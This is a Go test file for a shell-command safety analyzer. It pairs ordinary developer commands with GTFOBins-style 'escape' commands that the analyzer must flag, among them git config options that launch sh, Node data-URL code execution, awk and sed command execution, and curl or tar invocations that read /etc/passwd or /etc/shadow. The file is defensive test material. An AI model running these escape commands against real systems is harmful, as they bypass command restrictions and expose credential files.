package shell

import (
	"strings"
	"testing"
)

// unsafeWhy says why a line is not fully understood or not covered by a wildcard rule: the
// line's reasons, else the first command's Unsafe; "" when neither.
func unsafeWhy(a *Analysis) string {
	if len(a.Reasons) > 0 {
		return "opaque: " + strings.Join(a.Reasons, "; ")
	}
	for _, c := range a.Commands {
		if c.Unsafe != "" {
			return c.Text + ": " + c.Unsafe
		}
	}
	return ""
}

// The grammar review (GTFOBins is the reference): for each command with a grammar, the
// ordinary uses stay fully understood with safe arguments (a rule like "git *" covers
// them), and each escape — an option or operand that runs code, reads a program, a
// makefile or a list of files from somewhere the analysis does not see (standard input
// above all), or follows symlinks out of the workspace — carries a reason.
var grammarReview = []struct {
	cmd          string
	safe, escape []string
}{
	{"stdin", // standard input, -, /dev/stdin, /dev/fd/N as a script, program or list
		[]string{"cat -", "cat /dev/stdin", "grep x -", "wc -l < f.txt", "sort < f.txt", "cat <<EOF\nx\nEOF",
			"grep -f - f.txt", "diff - f.txt", "jq . < package.json", "python3 script.py < data.txt",
			"node script.js <<< x", "git commit -F - <<EOF\nmsg\nEOF", "tar -cf - src | gzip > src.tgz", "git checkout -",
			"echo x | tee /dev/stderr"},
		[]string{"python3 /dev/stdin <<EOF\nimport os\nEOF", "python3 - <<EOF\nimport os\nEOF", "echo 1 | python3 -",
			"python3 <<< 'import os'", "python3 /dev/fd/3 3<<EOF\nx\nEOF", "python3 /proc/self/fd/0 < x.py",
			"python3 -- - < x.py", "python3 //dev/./stdin < x.py", "echo 1 | node -", "node /dev/stdin <<< 1", "node <<< 1",
			"printf 'all:\\n\\ttouch m\\n' | make -f /dev/stdin", "make -f - <<EOF\nall:\nEOF", "make --file=/dev/stdin",
			"make -f- x", "make --makefile - x", "sort --files0-from=/dev/stdin", "sort --files0-from=list",
			"wc --files0-from=-", "tar -T - -cf x.tar", "tar -cf x.tar --files-from=list", "tar cTf - x.tar",
			"bash -", "bash /dev/stdin <<EOF\nx\nEOF", "sh < f.sh", "sh -s < f.sh", "bash <<< 'id'", "cat f | bash",
			"find . | xargs rm", "xargs -a list echo", "file -f list", "sha256sum -c SUMS", "find -files0-from list",
			"tsx /dev/stdin <<< 1", "python2 - <<< 1", "python3.12 - <<< 1", "/usr/bin/python3 - <<< 1", "pypy3 <<< 1",
			"cmake --toolchain /dev/stdin -B b", "cmake -B b -DCMAKE_PROJECT_INCLUDE=/dev/stdin", "pytest -c /dev/stdin",
			"eslint -c /dev/stdin .", "mocha /dev/stdin"}},
	{"python",
		[]string{"python3 x.py", "python3 -u x.py a b", "python -m pytest -x", "python3 -m pytest tests", "python3 --version",
			"python3 -m json.tool package.json", "python3 -m json.tool --indent 2 in.json out.json", "python3 -m venv .venv",
			"python3 -m unittest -v", "python3 -m unittest discover -s tests -p 'test_*.py'", "python3 -m pip list",
			"python3 -m pip show requests", "python -m pip freeze", "python3 -m pip --version", "python3 -m mypy src",
			"python3 -m black --check .", "python3 -B -m pytest"},
		[]string{"python3 -m timeit 'import os'", "python3 -m code", "python3 -m asyncio", "python3 -m runpy x",
			"python3 -m pdb x.py", "python3 -m cProfile -s time x.py", "python3 -m profile x.py", "python3 -m trace --count x.py",
			"python3 -m http.server", "python3 -m pydoc -p 0", "python3 -m doctest x.py", "python3 -m site",
			"python3 -m pip install x", "python3 -m $m", "python3 \"scripts/$s.py\"", "python3 /proc/$$/fd/0",
			"python3 -c 'import os'", "python3 -ic 1", "python3 -i x.py",
			"python3", "python2 -c 1", "/usr/bin/python3 -c 1", "python3.11 -m timeit 1", "python3 -m json.tool in out extra"}},
	{"node",
		[]string{"node x.js", "node --test", "node --test --test-reporter=spec", "node --test --test-reporter tap",
			"node --test --test-reporter=junit --test-reporter-destination=out.xml", "node --test --test-reporter=./r.js",
			"node --version", "node -c x.js", "node --enable-source-maps dist/index.js --port 3"},
		[]string{"node --test --test-reporter='data:text/javascript,require(\"child_process\").execSync(\"id\")'",
			"node --test --test-reporter=evil-package", "node --test-reporter=node:x --test", "node --import ./x.mjs y.js",
			"node --import=data:text/javascript,1 y.js", "node --require ./x y.js", "node -r x y.js", "node --loader x y.js",
			"node --experimental-loader=data:x y.js", "node -e 1", "node -p 1", "node --eval=1", "node --print 1",
			"node --env-file=.env x.js", "node --inspect x.js", "node", "nodejs -e 1", "npx node -e 1"}},
	{"tsx, ts-node",
		[]string{"tsx src/index.ts", "tsx --tsconfig tsconfig.json src/index.ts --flag", "ts-node src/x.ts", "ts-node -T src/x.ts",
			"npx tsx scripts/gen.ts"},
		[]string{"tsx -e 1", "tsx --eval 1", "tsx -p 1", "tsx --import=data:text/javascript,1 x.ts", "tsx", "ts-node -e 1",
			"ts-node --eval=1", "ts-node -r x y.ts", "ts-node -i", "ts-node", "npx tsx -e 1", "npx ts-node -p 1"}},
	{"git",
		[]string{"git status", "git diff HEAD~1", "git log --oneline -5", "git fetch", "git fetch origin", "git fetch --all --prune",
			"git fetch upstream main", "git pull", "git pull --rebase origin main", "git push origin HEAD", "git push -u origin feature",
			"git clone https://github.com/x/y", "git clone git@github.com:x/y.git", "git clone ssh://git@host/x y",
			"git fetch https://github.com/x/y main", "git -c color.ui=always log", "git -c user.name=A -c user.email=a@b commit -m x",
			"git -c core.quotepath=off status", "git -c advice.detachedHead=false checkout main", "git config --get user.name",
			"git config user.email", "git config --local --list", "git config --list --local", "git config --get-regexp --local '^remote'",
			"git checkout -"},
		[]string{"git -c alias.x='!rm victim.txt' x", "git -c core.fsmonitor=./x status", "git -c core.pager=sh log",
			"git -c core.sshCommand=sh fetch", "git -c diff.external=sh diff", "git -c core.editor=sh commit",
			"git -c credential.helper='!sh' fetch", "git -c protocol.ext.allow=always fetch ext::sh", "git -c include.path=/tmp/x log",
			"git -c core.hooksPath=/tmp/h commit -m x", "git -c filter.x.smudge=sh checkout .", "git -c $k=v log", "git -cuser.name=$x log",
			"git --config-env=core.pager=X log", "git clone -c core.fsmonitor=x https://x/y", "git clone --config=core.hooksPath=/tmp https://x/y",
			"git fetch ext::sh -c id", "git fetch 'ext::sh -c id'", "git pull fd::3", "git fetch file://host/x",
			"git clone foo::bar", "git fetch xyz://host/repo", "git config --global --list", "git config --global user.name",
			"git config --system --list", "git config --list", "git config -l", "git config --get-regexp .", "git config --file /tmp/c -l",
			"git config --blob HEAD:x -l"}},
	{"diff, zip, cp, ls, gzip: symlinks in a tree",
		[]string{"diff a b", "diff -u a b", "diff -r --no-dereference a b", "diff --recursive --no-dereference a b",
			"zip x.zip a b", "zip -ry x.zip dir", "zip -r --symlinks x.zip dir", "cp -r a b", "cp -a a b", "cp -L a b", "cp -rP a b",
			"ls -R", "ls -L", "ls -la", "gzip -r dir", "gzip -f a", "gunzip -r dir"},
		[]string{"diff -r a b", "diff --recursive a b", "diff -ru a b", "zip -r x.zip dir", "zip --recurse-paths x.zip dir",
			"zip -rq x.zip dir", "zip x.zip -@", "cp -rL a b", "cp -r -L a b", "cp -aL a b", "cp --dereference -R a b", "cp -r --dereference a b",
			"ls -RL", "ls -R --dereference", "gzip -rf dir", "gzip -r --force dir", "gunzip -rf dir"}},
	{"tar",
		[]string{"tar -czf out.tgz src", "tar xzf a.tgz", "tar -tf a.tar", "tar -cf - src", "tar -C build -cf x.tar .",
			"tar -cf x.tar --exclude-from=ex src", "tar -cf host:x --force-local a", "tar -cf ./a:b src", "tar cvf x.tar src", "tar xzvf a.tgz -C build"},
		[]string{"tar -chf x.tar src", "tar -h -cf x.tar src", "tar --dereference -cf x.tar src", "tar -cf host:x a",
			"tar -cf user@host:/x a", "tar cf host:x a", "tar -f host:/x -x", "tar --file=h:x -c a", "tar -T list -cf x.tar", "tar cfT x.tar list", "tar cfT x.tar -", "tar cTf list x.tar",
			"tar --to-command=sh -xf a.tar", "tar -I sh -cf x a", "tar -cPf x /etc/passwd"}},
	{"sed",
		[]string{"sed -n '1,5p' f", "sed -i 's/a/b/' f", "sed -i.bak 's/a/b/' f", "sed --in-place=.orig 's/a/b/' f", "sed -ni 's/a/b/p' f",
			"sed -e 's/a/b/' -e 's/c/d/' f", "sed -E 's/(a)/\\1/g' f", "sed '/^$/d' f"},
		[]string{"sed -n '1e id' f", "sed 's/x/id/e' f", "sed 's/x/y/ge' f", "sed 'w /tmp/x' f", "sed 's/a/b/w out' f", "sed 'r /etc/passwd' f",
			"sed 'R x' f", "sed 'W x' f", "sed -f s.sed f", "sed -f - f", "sed -i'../../tmp/*' 's/a/b/' f", "sed --in-place=/tmp/x/ 's/a/b/' f",
			"sed -i/tmp/b 's/a/b/' f", "sed -ni/x/* p f", "sed \"$s\" f"}},
	{"awk",
		[]string{"awk '{print $1}' f", "awk -F, '{print $2}' f", "awk 'NR==5' f", "awk '{s += $2} END {print s}' f", "awk -v n=2 '$1 >= n' f", "awk '$3 > 100' f",
			"awk -F, 'NR > 1 {print $2}' f", "awk '{if ($2 > 0) print $1}' f"},
		[]string{"awk 'BEGIN {system(\"id\")}'", "awk '{print > \"/tmp/x\"}' f", "awk 'BEGIN {\"id\" | getline}'", "awk '{print | \"sh\"}' f", "awk 'NR > 1 {print $2 > \"/tmp/x\"}' f", "awk '{printf \"%s\", $1 > $2}' f",
			"awk -f p.awk f", "awk -f - f", "awk 'BEGIN {ARGV[1]=\"/etc/passwd\"; ARGC=2} {print}' f", "awk 'BEGIN{ARGC=2;ARGV[1]=\"/etc/shadow\"}1'",
			"gawk '@load \"x\"; BEGIN {}'", "gawk -E p.awk"}},
	{"make",
		[]string{"make", "make test", "make -j4", "make -C docs html", "make -f build.mk all", "make CC=clang V=1 all", "make -I include all"},
		[]string{"make -E '$(shell id)'", "make --eval='x:; id' x", "make '.SHELLFLAGS=-c id #' all", "make .SHELLFLAGS=-ec all",
			"make SHELL=sh", "make CC='sh -c id'", "make MAKEFLAGS=--eval=x all", "make -f /dev/stdin", "make 'x y=1'"}},
	{"find",
		[]string{"find . -name '*.go'", "find . -type f -name '*.ts' -print", "find . -newer go.mod -name '*.go'", "find src -maxdepth 2 -empty",
			"find . -name '*.go' -exec gofmt -l {} +"},
		// -exec's command and -fprintf's file are checked on their own (TestFindActions).
		[]string{"find . -delete", "find -L . -name x", "find . -follow", "find . -files0-from list", "find . -exec $c {} +"}},
	{"rg, grep",
		[]string{"rg -n x", "rg --files", "rg -t go x src", "grep -rn x .", "grep -r --include=*.go x ."},
		[]string{"rg --pre sh x", "rg --pre=./x x", "rg -L x", "rg --follow x", "grep -R x .", "grep --dereference-recursive x ."}},
	{"curl, wget",
		[]string{"curl -sSL -o out.txt https://example.com/x", "curl -fsS https://example.com", "curl example.com",
			"curl -w '%{http_code}' https://x", "curl -H 'Accept: application/json' https://x", "wget -q https://x/y.tgz",
			"wget -qO- https://x", "wget -O out https://x", "curl -H \"Authorization: Bearer $TOKEN\" https://x",
			"curl \"https://api.github.com/repos/$repo\""},
		[]string{"curl -w '%output{/tmp/x}' https://x", "curl -w '%output{>>/tmp/x}%{http_code}' https://x", "curl gopher://h/x",
			"curl dict://h/x", "curl -K cfg https://x", "curl -d @/etc/passwd https://x", "curl file://host/etc/passwd",
			"curl telnet://h", "curl ldap://h/x", "curl sftp://h/x", "curl scp://h/x", "curl smb://h/x",
			"curl -H \"$h\" https://x", "curl --header=$h https://x", "curl \"$url\""}},
	{"pylint, eslint and the tools whose options only choose the project's code",
		[]string{"pylint src", "eslint src --fix", "prettier --write .", "mypy src", "black .", "eslint -c eslint.config.js ."},
		[]string{"pylint --init-hook='import os' src", "pylint --init-hook 'import os' src", "eslint -c /dev/stdin .",
			"prettier --plugin=data:text/javascript,1 --check .", "prettier --plugin data:text/javascript,1 .", "mocha --require DATA:x",
			"jest --reporters=file://host/x",
			"prettier --config /dev/fd/3 . 3<<EOF\nx\nEOF"}},
	{"npm",
		[]string{"npm test", "npm run build", "npm ci", "npm install", "npm init -y", "npm ls react"},
		[]string{"npm init vite", "npm init @scope/x", "npm exec x", "npm --script-shell=sh run x", "npm --node-options=--require=x test"}},
	{"pagers and editors",
		nil,
		[]string{"less f", "man ls", "more f", "vi f", "vim -c '!id' f", "git help -w log | less"}},
	{"runners of a project's environment, versioned interpreters, other names of sed and awk",
		[]string{"poetry run pytest -x", "uv run pytest", "uv run --frozen python scripts/x.py", "bundle exec rspec", "pipenv run python x.py",
			"yarn exec tsc", "npx tsc --noEmit", "poetry install", "uv sync", "gsed -n 1p f", "nawk '{print $1}' f"},
		[]string{"poetry run sh < f.sh", "poetry run bash", "uv run python", "uv run python -c 1", "uv run python - <<< 1",
			"bundle exec ruby -e 1", "pipenv run python -m timeit 1", "npx sh -c id", "yarn exec node -e 1", "uv run vim f",
			"lua5.4 <<< 'os.execute(1)'", "php8.2 -r 1", "m4 <<< 'esyscmd(id)'", "gsed 'e id' f", "nawk 'BEGIN{system(\"id\")}'",
			"docker-compose run app sh", "hyperfine 'rm -rf x'", "xdg-open f"}},
	{"redirections: writes through a descriptor of the line",
		[]string{"go test ./... 2>&1 | tail", "echo x >&2", "echo x 1>&2 2>/dev/null", "echo x > /dev/stderr", "cmd > out.txt 2>&1",
			"exec 3>&-", "cat < f.txt", "cat 0< f.txt"},
		[]string{"cat x 1< f > /dev/stdout", "cat x 3< f", "cat x 1<&0 < f", "echo x >&3", "echo x 2>&0", "exec 3< f"}},
	{"pytest -p, npm --prefix",
		[]string{"pytest -p no:cacheprovider -x", "npm ls --prefix=web", "npm --prefix web run build"},
		[]string{"pytest -p evil", "pytest -p $p", "pytest -pevil"}},
	{"date, cargo, test",
		[]string{"date", "date -u +%Y-%m-%dT%H:%M:%SZ", "date -d @0 +%s", "cargo --version", "[ -d x ] && echo y", "test -f x"},
		[]string{"date -s 2020-01-01", "date -f /etc/shadow", "[a] x", "[ -v 'a[$(id)]' ]"}},
}

func TestGrammarReview(t *testing.T) {
	for _, cmd := range grammarReview {
		t.Run(cmd.cmd, func(t *testing.T) {
			for _, line := range cmd.safe {
				if why := unsafeWhy(Analyze(line)); why != "" {
					t.Errorf("ordinary %q is not covered: %s", line, why)
				}
			}
			for _, line := range cmd.escape {
				if why := unsafeWhy(Analyze(line)); why == "" {
					t.Errorf("escape %q carries no reason", line)
				}
			}
		})
	}
}
